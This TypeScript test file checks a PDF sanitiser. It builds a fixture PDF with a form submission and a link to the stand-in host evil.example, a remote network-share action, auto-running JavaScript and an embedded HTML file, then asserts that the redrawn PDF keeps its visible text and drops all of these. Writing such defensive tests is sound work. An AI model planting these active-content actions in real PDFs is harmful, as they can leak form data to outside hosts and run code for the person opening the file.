import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { extractText, getDocumentProxy } from 'unpdf'
import { expect, test } from 'vitest'
import { redrawnPdf } from './redrawn-pdf.ts'

async function withActions(useObjectStreams: boolean): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  const page = pdf.addPage([300, 300])
  page.drawText('Conta de luz')
  const field = pdf.getForm().createTextField('nome')
  field.setText('Ana Souza')
  field.addToPage(page, { x: 20, y: 100, width: 200, height: 30 })
  const go = (action: Record<string, string | PDFString | (string | number)[]>) =>
    pdf.context.register(pdf.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 300, 300], A: action }))
  const links = [
    go({ S: 'URI', URI: PDFString.of('http://evil.example') }),
    go({ S: 'GoToR', F: PDFString.of('\\\\\\\\evil\\\\share'), D: [0, 'Fit'] }),
    go({ S: 'SubmitForm', F: PDFString.of('http://evil.example/form') }),
  ]
  page.node.set(PDFName.of('Annots'), pdf.context.obj([...(page.node.Annots()?.asArray() ?? []), ...links]))
  page.node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } }))
  pdf.addJavaScript('start', 'app.alert(2)')
  await pdf.attach(Buffer.from('<html>'), 'evil.html', { mimeType: 'text/html' })
  return Buffer.from(await pdf.save({ useObjectStreams }))
}

test.each([true, false])(
  'pages come out as they look, without anything that acts; objects packed: %s',
  async (packed) => {
    const drawn = await redrawnPdf(await withActions(packed))
    if (!drawn) throw new Error('not drawn')
    const text = drawn.toString('latin1')
    expect(text).not.toMatch(
      /evil|\/URI|\/GoToR|\/SubmitForm|\/JavaScript|\/EmbeddedFile|\/Annots|\/AcroForm|\/OpenAction|\/AA\b/,
    )
    const { text: read } = await extractText(await getDocumentProxy(new Uint8Array(drawn)), { mergePages: true })
    expect(read).toContain('Conta de luz')
    expect(read).toContain('Ana Souza')
  },
)

test('the same file is drawn the same way', async () => {
  const pdf = await PDFDocument.create()
  pdf.addPage([200, 200]).drawText('RG')
  const bytes = await pdf.save()
  expect(await redrawnPdf(bytes)).toEqual(await redrawnPdf(bytes))
})

test.each([
  ['nothing of a PDF', Buffer.from('%PDF-1.7\n%%EOF')],
  ['no page', Buffer.from('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF')],
])('a file that holds %s is not drawn', async (_, bytes) => {
  expect(await redrawnPdf(bytes)).toBeNull()
})
